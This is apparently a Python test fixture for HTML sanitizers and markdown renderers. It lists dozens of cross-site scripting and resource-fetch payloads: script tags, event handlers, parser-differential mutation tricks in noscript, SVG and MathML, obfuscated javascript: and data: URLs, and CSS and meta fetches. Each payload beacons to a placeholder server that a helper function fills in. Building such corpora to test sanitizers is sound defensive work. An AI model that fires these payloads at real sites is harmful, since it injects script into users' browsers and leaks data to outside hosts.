"""Markup that runs a script or fetches something in some browser, also where a parser sees none.

Each tells by asking `SERVER` for `/N`, its number, or by what it names in the page's title and attributes.
"""

from __future__ import annotations

RUN = "document.title='ran';document.documentElement.dataset.ran='1';new Image().src='SERVER/N'"
SCRIPT = f"<script>{RUN}</script>"
ERROR = f'<img src=x onerror="{RUN}">'

PAGES = (
    SCRIPT,
    "<script src=SERVER/N></script>",
    "<script src=//HOST/N></script>",
    ERROR,
    # comments, sections and declarations that parsers end elsewhere
    f"<!-->{SCRIPT}-->",
    f"<!--->{SCRIPT}-->",
    f"<!-- --!>{SCRIPT}<!-- -->",
    f"<![CDATA[>{SCRIPT}]]>",
    f"<?xml >{SCRIPT}?>",
    f"<!x>{SCRIPT}",
    f"</ >{SCRIPT}",
    # text to one parser, markup to another
    f'<noscript><p title="</noscript>{ERROR.replace(chr(34), "&quot;")}"></noscript>',
    f'<noembed><p title="</noembed>{SCRIPT}"></noembed>',
    f'<noframes><p title="</noframes>{SCRIPT}"></noframes>',
    f'<xmp><p title="</xmp>{SCRIPT}"></xmp>',
    f'<title><p title="</title>{SCRIPT}"></title>',
    f'<textarea><p title="</textarea>{SCRIPT}"></textarea>',
    f'<style><p title="</style>{SCRIPT}"></style>',
    f'<iframe><p title="</iframe>{SCRIPT}"></iframe>',
    f"<template><p></template>{SCRIPT}",
    f"<select><style></select>{SCRIPT}</style></select>{SCRIPT}",
    # SVG and MathML
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script href=SERVER/N /></svg>",
    f"<svg><style><img title='</style>{ERROR}'></style></svg>",
    f'<svg><animate attributeName=x dur=1s onbegin="{RUN}"></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{ERROR.replace(chr(34), "&quot;")}">',
    f"<math><annotation-xml encoding='text/html'>{ERROR}</annotation-xml></math>",
    "<svg><image href=SERVER/N /><use href=SERVER/N#x /></svg>",
    "<svg><feImage href=SERVER/N /></svg>",
    # handlers with odd separators
    f'<img/src=x/onerror="{RUN}">',
    f'<img\fsrc=x\fonerror="{RUN}">',
    f'<img src="x"onerror="{RUN}">',
    f"<IMG SRC=x ONERROR = '{RUN.replace(chr(39), chr(34))}'>",
    f'<img src=x o\x00nerror="{RUN}" onerror="{RUN}">',
    f'<details open ontoggle="{RUN}">.',
    f'<input autofocus onfocus="{RUN}">',
    f'<body onpageshow="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<p style="animation: a 1ms" onanimationstart="{RUN}"><style>@keyframes a {{ }}</style>',
    # addresses
    '<iframe src="javas&Tab;cript:void(new Image().src=`SERVER/N`)"></iframe>',
    '<iframe src="java\nscript:void(new Image().src=`SERVER/N`)"></iframe>',
    '<iframe src="&#106;avascript:void(new Image().src=`SERVER/N`)"></iframe>',
    f'<iframe srcdoc="{SCRIPT.replace("document", "parent.document")}"></iframe>',
    '<iframe src="data:text/html,<script>new Image().src=`SERVER/N`</script>"></iframe>',
    '<object data="data:text/html,<script>new Image().src=`SERVER/N`</script>"></object>',
    (
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
        '<script>new Image().src=`SERVER/N`</script></svg>">'
    ),
    # fetched without a script
    '<meta http-equiv=refresh content="0;url=SERVER/N">',
    '<meta http-equiv="&#114;efresh" content="0; url=data:text/html,<script>new Image().src=`SERVER/N`</script>">',
    "<img src=SERVER/N>",
    "<img srcset='SERVER/N 1x, SERVER/N 2x'>",
    "<picture><source srcset=SERVER/N><img></picture>",
    "<image src=SERVER/N>",
    "<base href=SERVER/N/><img src=x>",
    "<link rel=stylesheet href=SERVER/N><link rel=preload as=image href=SERVER/N><link rel=icon href=SERVER/N>",
    "<link rel=dns-prefetch href=SERVER><link rel=prefetch href=SERVER/N>",
    "<style>@import 'SERVER/N';</style>",
    "<style>@import url(SERVER/N); p { background: url(SERVER/N) }</style><p>.",
    "<style>@font-face { font-family: f; src: url(SERVER/N) } p { font-family: f }</style><p>.",
    "<p style='background:\\75rl(SERVER/N)'>.",
    "<table background=SERVER/N><td background=SERVER/N>.</table>",
    "<video poster=SERVER/N><source src=SERVER/N></video><audio src=SERVER/N></audio><track src=SERVER/N>",
    "<form action=SERVER/N><input type=image src=SERVER/N></form>",
    "<a ping=SERVER/N href=SERVER/N>.</a><iframe src=SERVER/N></iframe><frameset><frame src=SERVER/N></frameset>",
    f"<plaintext>{SCRIPT}",
)

MARKDOWN = (
    "![picture](SERVER/N)",
    "![picture][1]\n\n[1]: SERVER/N",
    "[picture]: SERVER/N\n![picture]",
    "![picture](<SERVER/N>)",
    "![pic\nture] (SERVER/N)",
    "[click](javascript:document.title='ran')",
    "[click] (javascript:document.title='ran')",
    "[0.5, 0.6](javascript:document.title='ran')",
    "<javascript:document.title='ran'>",
    "<img src=SERVER/N>",
    "```\n```html\n<script>document.title='ran'</script>\n```",
    "> [0.5, 0.6]: javascript:document.title='ran'",
    "1) [0.5, 0.6]: SERVER/N",
    "\\[0.5, 0.6]: SERVER/N",
    "- - [0.5, 0.6]: SERVER/N",
    "\\![picture](SERVER/N)",
    "\n\n    code\n\n# heading\n\n- ![in a list](SERVER/N)",
)


def against(server: str, payload: str, number: int) -> str:
    """A payload that asks this server."""
    named = payload.replace("SERVER/N", f"{server}/{number}").replace("SERVER", server)
    return named.replace("HOST/N", f"{server.partition('//')[2]}/{number}")
